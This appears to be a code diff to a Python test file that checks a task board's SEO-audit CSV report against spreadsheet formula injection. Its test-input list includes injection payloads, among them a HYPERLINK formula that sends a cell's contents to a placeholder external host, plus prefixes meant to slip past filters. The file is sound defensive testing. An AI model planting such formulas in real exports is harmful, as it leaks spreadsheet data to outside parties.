@@ -5,6 +5,7 @@ import io
 
 import pytest
 
+from taskboard import cells
 from taskboard.context import SettledItem
 from taskboard.outcomes import Done
 from taskboard.workflows.seo_audit import report
@@ -13,7 +14,7 @@ from tests.factories import make_task
 from tests.seo_audit.steps import Ctx
 
 DANGEROUS = [
-    '=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "\uff1d1",
+    '=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "\u00a0=1+1", "\uff1d1",
     "'quoted",
     "plain",
     "a;b,c\nd",
@@ -22,9 +23,13 @@ DANGEROUS = [
 
 @pytest.mark.parametrize("text", DANGEROUS)
 def test_no_cell_is_a_formula_and_each_reads_back(text: str) -> None:
-    cell = report.safe_cell(text)
-    assert cell.lstrip()[0] not in "=+-@\uff1d"
-    assert report.plain_cell(cell) == text
+    item = SettledItem(text, text, "failed", text, {})
+    table = io.StringIO()
+    csv.writer(table).writerow(report._row(item, {"title": text}))
+    row = next(csv.reader(io.StringIO(table.getvalue(), newline="")))
+    for cell in (row[0], row[6], row[8]):
+        assert cell.lstrip()[0] not in "=+-@\uff1d"
+        assert cells.plain(cell) == text
 
 
 def settled(key: str, status: str, reason: str = "") -> SettledItem:
@@ -53,7 +58,7 @@ def written(db: None) -> dict[str, str]:
 def test_the_table_opens_in_a_spreadsheet_and_reads_back(written: dict[str, str]) -> None:
     assert written["report.csv"].startswith("\ufeffpage,")
     rows = list(csv.DictReader(io.StringIO(written["report.csv"].removeprefix("\ufeff"))))
-    assert [report.plain_cell(row["page"]) for row in rows] == ["a.html", "b.html", "+c"]
+    assert [cells.plain(row["page"]) for row in rows] == ["a.html", "b.html", "+c"]
     assert (rows[0]["title"], rows[0]["impact"], rows[0]["new_title"]) == ("'=T a.html", "-5", "New | title")
 
 
